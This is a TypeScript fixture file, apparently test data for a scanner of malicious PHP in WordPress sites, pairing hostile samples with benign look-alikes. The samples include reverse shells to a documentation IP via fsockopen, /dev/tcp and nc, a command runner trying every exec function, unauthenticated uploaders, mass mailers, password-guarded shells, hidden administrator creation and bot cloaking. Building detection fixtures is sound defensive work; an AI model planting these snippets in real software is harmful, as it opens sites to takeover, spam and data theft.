import { along } from './inputs.ts'
import { php } from './spelling.ts'
import type { Technique } from './technique.ts'

export const TOOLS: readonly Technique[] = [
  {
    name: 'file managers',
    severity: 'confirmed',
    samples: ["$_GET['p']", "$_POST['path']", '$_REQUEST["f"]'].flatMap(v => [
      php(`$p = ${v};
if (isset($_GET['rm'])) unlink($p);
if (isset($_GET['mode'])) chmod($p, octdec($_GET['mode']));
if (isset($_GET['edit'])) { $h = fopen($p, 'w'); fwrite($h, $_POST['text']); }
foreach (scandir($p) as $n) echo "<a href='?p=$n'>$n</a>";`),
      php(`rename(${v}, $_GET['to']); rmdir(${v}); mkdir(${v}); touch(${v}); echo file_get_contents(${v});`),
    ]),
    honest: [
      php(`check_admin_referer('edit'); $p = $_GET['p']; unlink($p); chmod($p, 0644); rename($p, $q); mkdir($p);`),
      php(`$files = scandir($dir); foreach ($files as $f) unlink("$dir/$f"); rmdir($dir); chmod($dir, 0755);`),
    ],
  },
  {
    name: 'every way to run',
    severity: 'suspicious',
    samples: ["$_POST['c']", "$_GET['c']"].map(v =>
      php(`$c = ${v};
function run($x) {
  if (function_exists('exec')) { exec($x, $o); return implode("\\n", $o); }
  if (function_exists('shell_exec')) return shell_exec($x);
  if (function_exists('system')) { ob_start(); system($x); return ob_get_clean(); }
  if (function_exists('passthru')) { ob_start(); passthru($x); return ob_get_clean(); }
  $p = popen($x, 'r'); return fread($p, 9999);
}
echo run($c);`),
    ),
    honest: [
      php(
        `$found = array(); foreach (array('exec', 'shell_exec', 'system', 'passthru') as $f) $found[$f] = function_exists($f);`,
      ),
      php(`$process = proc_open($command, $pipes, $cwd); return exec('which mysqldump');`),
    ],
  },
  {
    name: 'uploaders',
    severity: 'suspicious',
    samples: ['f', 'file', 'userfile', 'image'].flatMap(name => [
      `<form method="post" enctype="multipart/form-data"><input type="file" name="${name}"><input type="submit"></form>
<?php if (isset($_FILES['${name}'])) move_uploaded_file($_FILES['${name}']['tmp_name'], $_FILES['${name}']['name']);`,
      `<?php @copy($_FILES["${name}"]["tmp_name"], "./" . $_FILES["${name}"]["name"]); ?>`,
    ]),
    honest: [
      php(
        `if (!current_user_can('upload_files')) wp_die(); move_uploaded_file($_FILES['f']['tmp_name'], $dir . '/' . $_FILES['f']['name']);`,
      ),
      php(`$file = wp_handle_upload($_FILES['f'], array('test_form' => false));`),
    ],
  },
  {
    name: 'reverse shells',
    severity: 'confirmed',
    samples: [4444, 9001, 53].flatMap(port => [
      php(`$s = fsockopen('203.0.113.7', ${port}); $p = proc_open('/bin/sh -i', array($s, $s, $s), $pipes);`),
      php(`exec("/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.7/${port} 0>&1'");`),
      php(`shell_exec('nc -e /bin/sh 203.0.113.7 ${port}');`),
    ]),
    honest: [
      php(`$socket = fsockopen('tls://smtp.example.com', 465); fwrite($socket, "EHLO example.com");`),
      php(`$process = proc_open('php -v', $spec, $pipes); // not /bin/sh`),
    ],
  },
  {
    name: 'mailers',
    severity: 'suspicious',
    samples: along(() => `mail($_POST['to'], $_POST['subject'], $_POST['text']);`)
      .slice(0, 3)
      .concat(
        php(
          `$to = $_REQUEST['t']; $s = $_REQUEST['s']; $m = stripslashes($_REQUEST['m']); foreach (explode("\\n", $to) as $one) mail($one, $s, $m);`,
        ),
      ),
    honest: [
      php(`mail('owner@example.com', 'Contact', $_POST['text']);`),
      php(`wp_mail($_POST['to'], 'Hi', 'text'); $this->mail($_POST['a'], $_POST['b'], $_POST['c']);`),
    ],
  },
  {
    name: 'guarded shells',
    severity: 'suspicious',
    samples: ["$_POST['pass']", "$_COOKIE['p']", "$_GET['k']"].map(v =>
      php(`if (md5(${v}) == '5f4dcc3b5aa765d61d8327deb882cf99') { $ok = true; }`),
    ),
    honest: [php(`if (md5($file) == $expected) return true; if (md5($_GET['k']) === get_option('key_hash')) return;`)],
  },
  {
    name: 'secret sign-ins',
    severity: 'suspicious',
    samples: [
      php(`if (isset($_GET['in'])) { $id = $_GET['in']; wp_set_auth_cookie($id); wp_redirect(admin_url()); exit; }`),
      php(
        `if (isset($_POST['u'])) { $id = wp_create_user($_POST['u'], $_POST['p']); $user = new WP_User($id); $user->set_role('administrator'); }`,
      ),
    ],
    honest: [
      php(`$user = wp_signon($credentials); wp_set_auth_cookie($user->ID, true);`),
      php(
        `if (!current_user_can('create_users')) return; wp_insert_user(array('role' => 'administrator', 'user_login' => $_POST['u']));`,
      ),
    ],
  },
  {
    name: 'cloaking',
    severity: 'suspicious',
    samples: ['stripos', 'strpos', 'stristr'].map(f =>
      php(
        `if (${f}($_SERVER['HTTP_USER_AGENT'], 'googlebot') !== false) { echo file_get_contents('http://203.0.113.9/links.php?d=' . $_SERVER['HTTP_HOST']); exit; }`,
      ),
    ),
    honest: [
      php(
        `$isBot = preg_match('/googlebot|bingbot/i', $_SERVER['HTTP_USER_AGENT']); if ($isBot) return; count_visit();`,
      ),
    ],
  },
]
